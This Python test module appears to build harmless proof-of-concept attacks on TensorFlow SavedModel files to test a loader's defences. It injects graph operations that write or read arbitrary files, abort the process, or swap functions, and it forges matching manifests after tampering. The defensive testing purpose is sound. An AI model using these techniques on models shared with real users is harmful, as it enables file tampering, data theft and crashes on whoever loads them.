"""Working exploits against whoever loads a SavedModel, harmless ones, made on the spot.

Each edits the graph of a sound export below the test's own folder and gives it a manifest
that matches, as anyone could.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import tensorflow as tf
from tensorflow.core.framework import attr_value_pb2
from tensorflow.core.protobuf import saved_model_pb2

from kaffect.files import write_manifest
from tests.serving.export_kinds import read_graph


def rewrite(folder: Path, edit: Callable[[Any], None]) -> None:
    """Apply `edit` to the only graph of an export and write it back with a matching manifest."""
    saved = read_graph(folder)
    edit(saved.meta_graphs[0])
    write_graph(folder, saved)


def write_graph(folder: Path, saved: saved_model_pb2.SavedModel) -> None:
    (folder / "saved_model.pb").write_bytes(saved.SerializeToString())
    seal_again(folder)


def seal_again(folder: Path) -> None:
    """Give an export whose files were changed a manifest that matches them."""
    manifest = json.loads((folder / "manifest.json").read_text())
    write_manifest(folder, {k: v for k, v in manifest.items() if k not in ("files", "seal")})


def function(graph: Any, part: str) -> Any:
    """The first function whose name holds `part`."""
    return next(f for f in graph.graph_def.library.function if part in f.signature.name)


def add_node(nodes: Any, op: str, *inputs: str, **attributes: Any) -> Any:
    """Append an operation; attributes as Python values (types as `tf.DType`)."""
    node = nodes.add(name=f"added_{op}_{len(nodes)}", op=op, input=inputs)
    for name, value in attributes.items():
        node.attr[name].CopyFrom(attribute(value))
    return node


def attribute(value: Any) -> Any:
    """An attribute's value as a message."""
    found = attr_value_pb2.AttrValue()
    if isinstance(value, tf.DType):
        found.type = value.as_datatype_enum
    elif isinstance(value, bool):
        found.b = value
    elif isinstance(value, int):
        found.i = value
    elif isinstance(value, str):
        found.s = value.encode()
    elif isinstance(value, tf.TensorShape):
        found.shape.CopyFrom(value.as_proto())
    elif isinstance(value, np.ndarray):
        found.tensor.CopyFrom(tf.make_tensor_proto(value))
    else:
        found.list.s.extend(item.encode() for item in value)
    return found


def text(nodes: Any, value: str) -> str:
    """A constant string; gives the reference to it within a function."""
    array = np.array(value, object)
    return f"{add_node(nodes, 'Const', dtype=tf.string, value=array).name}:output:0"


def write_file(nodes: Any, path: Path) -> Any:
    """An operation within a function that would write `path`."""
    return add_node(nodes, "WriteFile", text(nodes, str(path)), text(nodes, "caught"))


# The attacks. Each takes the graph and a path that it would write or read.


def loaded_the_old_way(graph: Any, path: Path) -> None:
    """Without objects TensorFlow takes its older loader, which runs the initialisation."""
    nodes = graph.graph_def.node
    graph.ClearField("object_graph_def")
    names = [
        add_node(nodes, "Const", dtype=tf.string, value=np.array(v, object)).name
        for v in (str(path), "caught")
    ]
    writer = add_node(nodes, "WriteFile", *names)
    del graph.collection_def["saved_model_main_op"].node_list.value[:]
    graph.collection_def["saved_model_main_op"].node_list.value.append(writer.name)
    del graph.signature_def["__saved_model_init_op"]


def memory_of_a_file(graph: Any, path: Path) -> None:
    """`ImmutableConst` gives the bytes of any file as a tensor."""
    wrapper = function(graph, "signature_wrapper")
    add_node(
        wrapper.node_def, "ImmutableConst", dtype=tf.uint8, shape=tf.TensorShape([4]),
        memory_region_name=str(path),
    )  # fmt: skip


def debugging_to_a_file(graph: Any, path: Path) -> None:
    """`DebugIdentity` writes what passes through it to an address."""
    wrapper = function(graph, "signature_wrapper")
    add_node(
        wrapper.node_def, "DebugIdentity", wrapper.signature.input_arg[0].name, T=tf.uint8,
        tensor_name="x:0", debug_urls=[f"file://{path}"],
    )  # fmt: skip


def ended_process(graph: Any, path: Path) -> None:
    """`Abort` ends the process, without an error where it is told so."""
    wrapper = function(graph, "signature_wrapper")
    add_node(wrapper.node_def, "Abort", error_msg="", exit_without_error=True)


def swapped_function(graph: Any, path: Path) -> None:
    """TensorFlow may call another function that implements the same interface."""
    library = graph.graph_def.library
    wrapper = function(graph, "signature_wrapper")
    other = library.function.add()
    other.CopyFrom(wrapper)
    other.signature.name = "__unreachable"
    for one in (wrapper, other):
        one.attr["api_implements"].s = b"same"
    write_file(other.node_def, path)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        loaded_the_old_way,
        memory_of_a_file,
        debugging_to_a_file,
        ended_process,
        swapped_function,
    )
}
